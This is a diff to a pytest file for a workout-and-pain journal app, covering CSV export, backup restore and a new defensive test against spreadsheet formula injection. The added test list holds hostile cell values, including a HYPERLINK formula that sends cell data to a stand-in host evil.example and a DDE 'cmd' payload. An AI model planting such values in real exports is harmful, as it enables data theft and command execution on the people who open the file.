@@ -1,5 +1,6 @@
 """The journal keeps every set and check-in, refuses bad ones whole, and loses nothing."""
 
+import csv
 import os
 import stat
 from datetime import date, datetime, timedelta
@@ -147,11 +148,15 @@ def test_csv_has_a_row_per_set_and_per_check_in(tmp_path):
     journal.add_set(**a_set(leg="right", reps=10, pain=None))
     journal.add_check_in(date="2026-11-25", first_steps_pain=4, worse_after_training=True)
     assert export_csv(journal, tmp_path / "out.csv") == 3
-    lines = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()
-    assert lines[0].startswith("kind,date,time,leg,target_reps,reps,load_kg,tempo_s,pain")
-    assert lines[1] == 'set,2026-11-24,18:00:00,left,12,12,5.0,3-2-3-0,3,,,"a, b"'
-    assert lines[2] == "set,2026-11-24,18:00:00,right,12,10,5.0,3-2-3-0,,,,"
-    assert lines[3] == "check-in,2026-11-25,,,,,,,,4,yes,"
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))
+    assert rows[0][:9] == ["kind", "date", "time", "leg", "target_reps", "reps", "load_kg",
+                           "tempo_s", "pain"]  # fmt: skip
+    assert rows[1] == ["set", "2026-11-24", "18:00:00", "left", "12", "12", "5.0", "3-2-3-0",
+                       "3", "", "", "a, b"]  # fmt: skip
+    assert rows[2] == ["set", "2026-11-24", "18:00:00", "right", "12", "10", "5.0", "3-2-3-0",
+                       "", "", "", ""]  # fmt: skip
+    assert rows[3] == ["check-in", "2026-11-25", "", "", "", "", "", "", "", "4", "yes", ""]
 
 
 def test_a_backup_restores_the_journal_exactly(tmp_path):
@@ -163,11 +168,13 @@ def test_a_backup_restores_the_journal_exactly(tmp_path):
 
     other = opened(tmp_path / "b")
     other.add_set(**a_set(note="to be replaced"))
-    restore_backup(other, tmp_path / "backup.json", NOW)
+    replaced = other.data()
+    kept = restore_backup(other, tmp_path / "backup.json", NOW)
     assert other.data() == journal.data()
     other.close()
     assert opened(tmp_path / "b").data() == journal.data()
-    assert any((tmp_path / "b" / "backups").glob("before-restore-*.json"))
+    assert kept.parent == tmp_path / "b" / "backups"
+    assert orjson.loads(kept.read_bytes()) == replaced  # the journal as it was, kept
 
 
 @pytest.mark.parametrize(
@@ -193,3 +200,31 @@ def test_no_temporary_files_are_left_behind(tmp_path):
     journal.back_up_today()
     assert sorted(os.listdir(tmp_path)) == ["backups", JOURNAL_FILE]
     assert os.listdir(tmp_path / "backups") == [f"journal-{NOW.date().isoformat()}.json"]
+
+
+HOSTILE_NOTES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "line one\rline two",
+    'quote " and, comma\nnew line',
+]
+
+
+def test_csv_cells_never_start_a_formula_and_a_bare_cr_never_splits_a_row(tmp_path):
+    journal = opened(tmp_path)
+    for note in HOSTILE_NOTES:
+        journal.add_set(**a_set(note=note))
+    assert export_csv(journal, tmp_path / "out.csv") == len(HOSTILE_NOTES)
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))
+    assert len(rows) == 1 + len(HOSTILE_NOTES)  # no row split by a line break or a CR
+    notes = [row[-1] for row in rows[1:]]
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert notes == [("'" + note if note[0] in "=+-@\t\r" else note) for note in HOSTILE_NOTES]
+    raw = (tmp_path / "out.csv").read_bytes()
+    assert raw.count(b"\r\n") == len(rows)  # every row ends as RFC 4180 says
